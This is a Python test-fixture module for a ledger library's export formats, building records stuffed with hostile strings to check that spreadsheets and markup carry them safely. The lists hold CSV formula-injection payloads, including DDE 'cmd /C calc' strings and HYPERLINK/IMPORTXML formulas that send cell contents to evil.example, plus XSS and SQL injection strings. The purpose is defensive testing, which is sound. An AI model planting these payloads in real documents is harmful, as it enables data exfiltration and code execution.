"""Stories that the desk's formats are tried on, and what is compared of them."""

from __future__ import annotations

import io
import os
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

from ledger.book import Ledger
from ledger.book.answer_types import Imported
from ledger.formats import format_named

GOLDEN = Path(__file__).parent / "golden"
#: Set to write the golden files anew; read the difference before it is kept.
REWRITE = "LEDGER_REWRITE_GOLDEN"

#: What spreadsheets run as formulas (OWASP, "CSV Injection"), or would if a cell began elsewhere.
PAYLOADS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "=1+2\";=1+2", "=1+2'\" ;,=1+2",
    "=cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")', '=DDE("cmd";"/C calc";"x")', "=10+20+cmd|'/C calc'!A0",
    "-2+3+cmd|' /C calc'!D2", "x;=1+1;y", "x\t=1+1", "x\n=1+1", 'x";=1+1;"y', "'=1+1", "''=1+1", "'-5", "＝1+1",
    "－1+1", "＠SUM(1)", "x; -5", "x|@y", "%0A-3+3+cmd|' /C calc'!D2", " =1+1", '"=1+1"', ";=1+1",
)  # fmt: skip

#: Texts that are hard to carry, in cells, lines and markup.
HOSTILE = (
    *PAYLOADS, "a\r\nb", "a\rb", "\x1b[31mred", "pay\u202elager", "a\x01b", "_x0041_",
    "_x000D_", "_x005F_x0041_", "x005F_", "a,b", 'a"b', "a;b", "a|b", "`code`", "]]>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "[x](javascript:alert(1))", "![x](http://evil.example/x.png)", "# heading",
    "- item", "1. item", "***", "[^1]: note", "http://evil.example", "www.evil.example", "a@evil.example",
    "javascript:alert(1)", "&lt;b&gt;", "$x$", "\\", "\\<b>", "😀\U0001f468\u200d\U0001f469", "\u0301e", "or", '"',
    '""',
    '<r></is></c><c r="A99"><f>1+1</f><v>2</v></c><c><is><r></r>', "<r>_x0041_\x01&</r>", "<r></r>",
    "' or 1=1 --", "#REF!", "1/2", "3-4", "1e5", "007", "TRUE", "yes",
)  # fmt: skip


def odd_story() -> list[dict[str, Any]]:
    """Figures with every odd thing that a sheet has to carry, but for what it says that it does not."""
    records: list[dict[str, Any]] = [
        {"record": "source", "key": "work", "url": "https://example.org/a?b=(c)&d='e'", "title": "A | title; with =1+1",
         "kind": "report", "publisher": '"Red" Press; Sons', "published": "2023-08~", "authors": ["A; B", "-C"],
         "language": "en-GB"},
        {"record": "source", "key": "untitled", "title": "-Untitled", "publisher": "+P", "published": "2023"},
        {"record": "figure", "key": "one", "quantity": "-3.5 percent",
         "reported_by": ['"Red" Smith', "Sons; Daughters", "or"], "source": "work", "primary": True,
         "nature": "observed", "stated": "2023-08-30", "period": "2022-02/..", "place": "=Russia", "locator": "-5",
         "quote": {"exact": "  =minus 3.5 percent\r\n", "prefix": "+a",
         "suffix": "@b", "language": "ru", "translation": "-three"}, "note": "\tnote\n=1+1\n", "tags": ["a;b", "=c"]},
        {"record": "figure", "key": "range", "quantity": "between 5 and 10 people", "reported_by": ["A"],
         "source": "untitled"},
        {"record": "figure", "key": "minus", "quantity": {"value": "-5", "unit": "1"}},
        {"record": "figure", "key": "fraction", "quantity": {"text": "a third", "value": "1/3", "unit": "1"}},
        {"record": "figure", "key": "digits", "quantity": {"value": "3.40", "low": "0.1",
         "high": "12345678901234567890.12345678901234567890", "hedge": "about", "unit": "km^2"}},
        {"record": "figure", "key": "vague", "quantity": {"text": "a rise", "hedge": "vague"}, "wording": "unseen"},
        {"record": "figure", "key": "bare", "relays": "one", "reported_by": ["B"]},
        {"record": "figure", "key": "sum", "quantity": {"value": "1e3", "unit": "person"},
         "derived_from": {"inputs": {"a": "range", "b": "minus"}, "formula": "a *  b",
         "assumptions": ["x; y", "or", "=z"]}},
        {"record": "link", "relation": "derivation", "figure": "sum", "inputs": {"a": "minus"}, "basis": "inferred"},
        {"record": "link", "relation": "relay", "figure": "sum", "from": "range", "basis": "conjecture"},
        {"record": "figure", "quantity": "7 people", "reported_by": ["A"], "label": "=label"},
        {"record": "figure", "key": "new", "quantity": "8 people", "reported_by": ["A"]},
        {"record": "link", "relation": "revision", "figure": "new", "from": "range"},
        {"record": "figure", "key": "loop-a", "quantity": "1 loop", "reported_by": ["A"]},
        {"record": "figure", "key": "loop-b", "relays": "loop-a", "quantity": "1 loop", "reported_by": ["B"]},
        {"record": "link", "relation": "relay", "figure": "loop-a", "from": "loop-b"},
        {"record": "review", "of": "one", "verdict": "disputed", "accept": ["label-changed", "unquantified"],
         "note": "=no\n"},
        {"record": "same", "refs": ["A", "B"]},
    ]  # fmt: skip
    records += [
        {"record": "figure", "quantity": {"text": text, "value": str(number)}, "label": f"h {text}",
         "reported_by": [f"n {text}"], "quote": text, "note": text, "locator": f"l {text}", "tags": [f"t {text}"]}
        for number, text in enumerate(HOSTILE)
    ]  # fmt: skip
    return records


def written(ledger: Ledger, name: str, references: Sequence[str] = ()) -> bytes:
    """A format's document."""
    if format_named(name).binary:
        raw = io.BytesIO()
        ledger.export(raw, format=name, references=references)
        return raw.getvalue()
    text = io.StringIO(newline="")
    ledger.export(text, format=name, references=references)
    return text.getvalue().encode()


def taken(ledger: Ledger, name: str, document: bytes) -> Imported:
    """A document imported."""
    chosen = format_named(name)
    assert chosen.readable
    return ledger.import_(chosen.load(io.BytesIO(document)), name=f"desk.{name}")


def recorded(ledger: Ledger, *kinds: str) -> set[str]:
    """The ids of all records of these kinds."""
    return {line["id"] for line in ledger.export_lines() if line["record"] in kinds}


def golden(name: str, document: bytes) -> None:
    """Compare a document with a golden file, or write it where that was asked for."""
    file = GOLDEN / name
    if os.environ.get(REWRITE):
        file.write_bytes(document)
    assert document == file.read_bytes()


MakeLedger = Callable[..., Ledger]
